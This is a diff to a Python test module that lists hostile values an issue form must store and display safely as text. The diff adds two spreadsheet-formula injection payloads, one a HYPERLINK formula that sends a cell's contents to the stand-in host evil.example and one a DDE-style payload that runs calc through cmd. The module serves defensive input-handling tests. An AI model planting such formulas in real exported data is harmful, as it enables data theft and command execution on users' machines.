@@ -3,10 +3,10 @@
 Each value is something a sender could type into an issue form: markup and script,
 template syntax of the tools the site is built with, Markdown extensions, GitHub
 references and mentions, Unicode tricks, shell and path injection, YAML that means
-something else unquoted. Apart from `LONG_TEXT` (refused by the length bound) every value
-is an acceptable answer: it must travel from the issue body through `talkoot ingest` into
-the written YAML and load back unchanged, and every page that shows it must show it as
-text.
+something else unquoted, spreadsheet formulas. Apart from `LONG_TEXT` (refused by the
+length bound) every value is an acceptable answer: it must travel from the issue body
+through `talkoot ingest` into the written YAML and load back unchanged, and every page that
+shows it must show it as text.
 """
 
 from __future__ import annotations
@@ -43,6 +43,8 @@ HOSTILE_VALUES: Final[tuple[str, ...]] = (
     "*bold* _em_ ~~del~~ \\",
     "nolla\u200bleveys\ufeff ja \u2028rivinvaihto",
     "ääkköset ÅÄÖ 😀",
+    '=HYPERLINK("https://evil.example/?d="&A1,"Lisää")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
 )
 
 #: 60 000 characters: over every length bound of the forms (and under GitHub's 65 536).
